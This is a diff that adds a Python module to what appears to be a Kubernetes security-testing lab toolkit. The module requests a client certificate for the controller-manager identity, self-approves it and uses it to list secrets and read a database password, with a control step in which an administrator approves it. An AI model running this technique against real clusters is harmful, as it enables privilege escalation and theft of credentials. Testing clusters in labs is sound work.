@@ -1,0 +1,126 @@
+"""Request a certificate for another user through the API, approve it oneself, and use it.
+
+The user is the controller-manager: it is in no group that the apiserver refuses to put into a
+certificate, and yet it reads every secret. The certificate outlives whatever let it be made.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import time
+from typing import TYPE_CHECKING, Any
+
+from labkit.errors import ProbeError, ProbeTimeout
+from labkit.model import View
+from labkit.techniques._access import CHANNEL, api_url, caller_at, may_all, options_at
+from labkit.techniques._base import (
+    NETWORK,
+    ROOT_ON_WORKER,
+    SECRETS,
+    Prediction,
+    Technique,
+)
+from labkit.techniques._reach import Answer, request, run_from
+from labkit.techniques._requests import (
+    APPROVE,
+    CREATE,
+    PATH,
+    approved,
+    new_request,
+    removed,
+)
+from labkit.techniques._secret import true_secret
+from labkit.techniques._verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+NAME, USER = "labkit-other", "system:kube-controller-manager"
+#: What the controller-manager watches, it may list.
+LIST = "/api/v1/namespaces/shop/secrets"
+PATIENCE = 20.0
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whether the caller may request and approve."""
+    return may_all(view, caller_at(view.env, foothold), [CREATE, *APPROVE])
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Request, approve, wait for the certificate, and list secrets with it."""
+    secret = true_secret(lab, "shop", "db-credentials", "password")
+    options = options_at(lab.environment, foothold)
+    evidence = [f"asked for a certificate of {USER}: POST {PATH} at the apiserver"]
+
+    def send(path: str, more: list[str], body: bytes | None = None) -> Answer:
+        return request(lab, api_url(lab, path), foothold=foothold, body=body, options=more)
+
+    try:
+        with new_request(lab, foothold, NAME, USER) as (folder, body):
+            made = send(PATH, options, json.dumps(body).encode())
+            if made.refusal:
+                return _refused(lab, foothold, made.refusal, evidence, body)
+            evidence.append(f"approved it: PUT {PATH}/{NAME}/approval")
+            put = [*options, "--request", "PUT"]
+            allowed = send(f"{PATH}/{NAME}/approval", put, approved(json.loads(made.body)))
+            if allowed.refusal:
+                evidence[-1] = f"tried to approve it: PUT {PATH}/{NAME}/approval"
+                return _refused(lab, foothold, allowed.refusal, evidence)
+            certificate = _certificate(lab)
+            if run_from(lab, foothold, ["tee", f"{folder}/crt"], stdin=certificate).exit_code:
+                raise ProbeError("the certificate could not be kept")
+            found = send(LIST, ["--cert", f"{folder}/crt", "--key", f"{folder}/key"])
+    finally:
+        removed(lab, NAME)
+    if found.refusal or not secret.found_in(found.body):
+        raise ProbeError(f"as {USER}: {found.refusal or 'the secret is not among the listed'}")
+    evidence.append(f"as {USER}, read: {secret.proof}")
+    reason = "HTTP 200, the caller approves its own request"
+    return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, tuple(evidence))
+
+
+def _refused(
+    lab: Lab, foothold: str, reason: str, evidence: list[str], body: dict[str, Any] | None = None
+) -> Verdict:
+    """Let the administrator make and approve the request that the attacker could not."""
+    if not reason.startswith(("HTTP 401", "HTTP 403")):
+        raise ProbeError(f"{TECHNIQUE.name}: {reason} says nothing")
+    if body is not None:
+        lab.kubectl("create", "--filename=-", stdin=json.dumps(body).encode())
+    lab.kubectl("certificate", "approve", NAME)
+    _certificate(lab)
+    control = "the administrator approves the same request, and the certificate is made"
+    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, tuple(evidence), control)
+
+
+def _certificate(lab: Lab) -> bytes:
+    """Wait for the certificate."""
+    get = ("get", "certificatesigningrequest", NAME, "--output=jsonpath={.status.certificate}")
+    deadline = time.monotonic() + PATIENCE
+    while time.monotonic() < deadline:
+        if found := lab.kubectl(*get).text:
+            return base64.b64decode(found)
+        time.sleep(0.1)
+    raise ProbeTimeout(f"nobody signed the approved request within {PATIENCE:g} s")
+
+
+TECHNIQUE = Technique(
+    name="csr-self-approve",
+    title="Make oneself a certificate of the controller-manager through the API",
+    footholds=(NETWORK, ROOT_ON_WORKER),
+    grants=(SECRETS,),
+    about=CHANNEL,
+    properties=("client_authentication", "authorization"),
+    attack=("T1098", "T1649"),
+    stride=("spoofing", "elevation of privilege"),
+    cwe=("CWE-269", "CWE-862"),
+    sources=(
+        "https://kubernetes.io/docs/reference/access-authn-authz/certificate-signing-requests/",
+        "https://attack.mitre.org/techniques/T1649/",
+    ),
+    predict=predict,
+    execute=execute,
+)
